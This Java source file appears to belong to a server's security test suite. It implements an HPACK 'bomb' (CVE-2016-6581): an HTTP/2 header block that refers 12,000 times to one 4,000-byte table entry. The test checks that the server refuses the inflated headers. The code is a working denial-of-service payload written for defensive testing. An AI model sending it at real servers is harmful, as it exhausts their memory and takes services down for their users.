package gochat.bench.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;

/// Adds a header of 4,000 bytes to the table and refers to it 12,000 times, with one byte each
/// (CVE-2016-6581).
final class HpackBomb extends Attack {
  private static final int VALUE_BYTES = 4_000;
  private static final int REPETITIONS = 12_000;
  private static final int WITH_INDEXING = 0x40;

  /// The newest entry of the table.
  private static final int INDEXED = 0x80 | 62;

  private static final int ANSWER_MS = 2_000;

  HpackBomb() {
    super(
        Defence.REFUSED, "Headers that decompress to more than 16 KiB are refused, and not kept.");
  }

  @Override
  public Result strike(Attacker attacker) throws IOException, InterruptedException {
    RawHttp2 client = RawHttp2.connect(attacker);
    client.open(1, block(attacker.port()));
    client.connection().flush();
    String status = client.awaitAnswer(ANSWER_MS);
    return new Result(status.isEmpty() ? Defence.SERVED : Defence.REFUSED, status);
  }

  private static byte[] block(Port port) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(Requests.unfinished(port));
    block.write(WITH_INDEXING);
    RawHttp2.literal(block, "x-bomb");
    RawHttp2.literal(block, "x".repeat(VALUE_BYTES));
    for (int i = 0; i < REPETITIONS; i++) {
      block.write(INDEXED);
    }
    return block.toByteArray();
  }
}
